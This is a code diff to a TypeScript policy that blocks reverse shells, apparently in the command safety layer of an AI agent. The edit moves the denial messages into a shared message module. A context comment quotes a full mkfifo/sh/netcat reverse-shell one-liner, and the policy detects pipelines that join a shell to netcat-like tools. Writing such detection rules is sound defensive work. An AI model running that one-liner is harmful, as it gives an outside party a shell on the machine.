@@ -6,6 +6,7 @@
 // party a shell on this machine is never the agent's call
 import { NETCATS } from '../network-programs.js';
 import type { ShellCommand } from '../shell-command.js';
+import { say, sayDetail } from '../../../vocabulary/messages/say.js';
 import { defineCommandPolicy, stop } from './define-command-policy.js';
 import type { CommandHit } from './define-command-policy.js';
 
@@ -75,8 +76,8 @@ export const reverseShellPolicy = defineCommandPolicy({
         hits.push({
           subject: command.text,
           severity: 'hard-deny',
-          message: `${reason}: a reverse shell`,
-          next: stop('never run it'),
+          ...say('command.reverse-shell', { reason }),
+          next: stop(sayDetail('command.reverse-shell.next')),
         });
     }
     // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell and a netcat
@@ -96,8 +97,8 @@ export const reverseShellPolicy = defineCommandPolicy({
       hits.push({
         subject: socket[0].trim(),
         severity: 'hard-deny',
-        message: `opens ${socket[1] ?? ''} for reading and writing: a reverse shell`,
-        next: stop('never run it'),
+        ...say('command.reverse-shell.socket', { socket: socket[1] ?? '' }),
+        next: stop(sayDetail('command.reverse-shell.next')),
       });
     for (const stages of pipelines.values()) {
       const shell = stages.find(
@@ -110,8 +111,11 @@ export const reverseShellPolicy = defineCommandPolicy({
         hits.push({
           subject: shell.text,
           severity: 'hard-deny',
-          message: `a pipeline joins ${shell.name} and ${netcat.name}: a reverse shell`,
-          next: stop('never run it'),
+          ...say('command.reverse-shell.pipeline', {
+            shell: shell.name,
+            netcat: netcat.name,
+          }),
+          next: stop(sayDetail('command.reverse-shell.next')),
         });
     }
     return hits;
